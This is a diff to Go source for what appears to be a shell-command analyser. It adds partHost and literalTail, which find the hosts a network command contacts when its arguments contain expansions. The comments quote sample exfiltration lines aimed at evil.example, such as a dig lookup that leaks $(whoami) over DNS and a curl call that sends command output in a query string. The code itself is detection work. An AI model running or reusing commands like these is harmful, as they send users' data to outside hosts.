@@ -328,15 +328,66 @@ func socatHosts(a string) []string {
 }
 
 // ansiDialed adds the hosts a call of a dialer names when its words in
-// $'…' are decoded.
+// $'…' are decoded, and those a word with an expansion writes literally
+// (partHost: dig $(whoami).x.evil.example, curl "evil.example?d=$(…)").
 func (c *collector) ansiDialed(call *syntax.CallExpr, argv []string, known []bool) {
 	argv, known = slices.Clone(argv), slices.Clone(known)
 	for i, w := range call.Args {
 		if !known[i] {
 			argv[i], known[i] = wordValue(w, true)
 		}
+		if !known[i] {
+			argv[i], known[i] = partHost(w)
+		}
 	}
 	c.dialed(ProgramName(argv[0]), argv, known)
+}
+
+// partHost is the part of a word with an expansion that names a host: its
+// literal start when the host ends in it (evil.example?d=$(…),
+// evil.example:"$DIR"), or its literal end after a dot or an @ (the
+// labels after $(whoami). that a DNS lookup leaks data to; $USER@host).
+func partHost(w *syntax.Word) (string, bool) {
+	prefix, _ := wordPrefix(w, true)
+	rest := prefix
+	if _, r, ok := strings.Cut(prefix, "://"); ok {
+		rest = r
+	}
+	if strings.ContainsAny(rest, "/?#:") {
+		return prefix, true
+	}
+	if tail, _ := literalTail(w.Parts, false); len(tail) > 1 && (tail[0] == '.' || tail[0] == '@') {
+		return tail[1:], true
+	}
+	return "", false
+}
+
+// literalTail is the literal text that ends a word's parts (inside double
+// quotes when quoted), and whether it is all of them.
+func literalTail(parts []syntax.WordPart, quoted bool) (tail string, whole bool) {
+	for i := len(parts) - 1; i >= 0; i-- {
+		switch p := parts[i].(type) {
+		case *syntax.Lit:
+			if quoted {
+				tail = p.Value + tail
+			} else {
+				tail = unescape(p.Value) + tail
+			}
+		case *syntax.SglQuoted:
+			if p.Dollar || quoted {
+				return tail, false
+			}
+			tail = p.Value + tail
+		case *syntax.DblQuoted:
+			q, all := literalTail(p.Parts, true)
+			if tail = q + tail; !all {
+				return tail, false
+			}
+		default:
+			return tail, false
+		}
+	}
+	return tail, true
 }
 
 // devHost adds the host a redirection to bash's /dev/tcp/HOST/PORT (or
